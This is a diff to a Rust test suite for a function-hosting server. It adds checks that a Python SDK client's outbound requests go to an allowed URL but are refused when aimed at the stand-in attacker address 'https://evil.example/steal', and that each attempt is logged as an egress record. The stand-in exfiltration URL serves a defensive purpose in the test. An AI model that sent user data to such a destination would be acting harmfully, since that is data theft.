@@ -396,8 +396,13 @@ on_both_databases! {
         assert_eq!(sent.body["body"], format!("201 received {} bytes", body.len()), "{}", sent.text);
         let refused = server.invoke("zhang.wei", "py-courier", "/send?url=https://evil.example/steal").await;
         assert_eq!(refused.body["body"], "HttpRequestDenied", "{}", refused.text);
+        // The same through the Python SDK's client.
+        let sdk = server.invoke("zhang.wei", "py-courier", &format!("/sdk-send?url={plain}/visits")).await;
+        assert_eq!(sdk.body["body"], format!("201 received {} bytes", r#"{"by": ""}"#.len()), "{}", sdk.text);
+        let sdk = server.invoke("zhang.wei", "py-courier", "/sdk-send?url=https://evil.example/steal").await;
+        assert_eq!(sdk.body["body"], "refused", "{}", sdk.text);
         let records = egress_records(&server, since).await;
-        assert_eq!(records.len(), 2, "{records:?}");
+        assert_eq!(records.len(), 4, "{records:?}");
         assert_eq!(records[0]["egress"]["could_include"], json!(["user.name"]), "{}", records[0]);
         assert_eq!(records[0]["egress"]["bytes_out"], body.len(), "{}", records[0]);
         assert_eq!((records[1]["outcome"].as_str(), records[1]["egress"]["destination"].as_str()), (Some("denied"), Some("https://evil.example")));
